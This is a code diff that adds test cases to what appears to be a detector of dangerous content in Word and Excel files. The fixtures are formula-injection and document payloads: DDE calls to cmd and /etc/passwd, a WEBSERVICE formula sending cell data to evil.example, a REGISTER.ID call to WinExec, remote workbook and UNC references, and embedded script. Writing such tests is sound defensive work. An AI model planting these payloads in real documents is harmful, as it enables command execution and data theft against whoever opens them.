@@ -143,6 +143,11 @@ describe('documents and workbooks', () => {
       withTypes('', '<Default Extension="bin" ContentType="x.binary.macroEnabled.main"/>', 'xlsx'),
     ],
     ['letters that were sent to nobody', 'a.docx', part('<w:connectString w:val=""/>')],
+    [
+      'a formula with a quoted name',
+      'a.xlsx',
+      cell('\'Call (1)\'!A1&amp;"DDE(1)"&amp;[1]S!A1+T[Km/h]+T[[a]:[b]]'),
+    ],
     ['numbers of no database', 'a.xlsx', cell('A1</f><dbPr connection="" command=""/><f>A2')],
     ['a picture beside it', 'a.docx', rel('Type="x/image" TargetMode="External" Target="media/a.png"')],
     [
@@ -282,6 +287,15 @@ describe('documents and workbooks', () => {
         field(begin, begin, said('QUOTE 68 68 69'), separate, end, separate, end),
       ],
       ['a formula of DDE', 'a.xlsx', cell("cmd|'/c calc'!A0")],
+      ['a function of DDE', 'a.xlsx', cell('1+DDE ("soffice","/etc/passwd","A1")')],
+      ['a function of DDE in a name', 'a.xlsx', cell('x</f><definedName>DDE("a","b","c")</definedName><f>1')],
+      ['a function of DDE in a rule', 'a.xlsx', cell('1</f><formula1>dde("a","b","c")</formula1><f>1')],
+      ['a function that asks a server', 'a.xlsx', cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')],
+      ['a function of a program', 'a.xlsx', cell('REGISTER.ID("kernel32","WinExec")')],
+      ['a cell of another server', 'a.xlsx', cell("'[https://evil.example/a.csv]a'!A1")],
+      ['a cell of a server of files', 'a.xlsx', cell("'[\\\\evil\\a.xlsx]a'!A1")],
+      ['a film with a page of its own', 'a.docx', part('<a:webVideoPr embeddedHtml="&lt;script>"/>')],
+      ['a field of an old name', 'a.docx', part('<w:fldSimple w:instr=\'INCLUDE "//evil/a"\'/>')],
       [
         'a link of DDE',
         'a.xlsx',
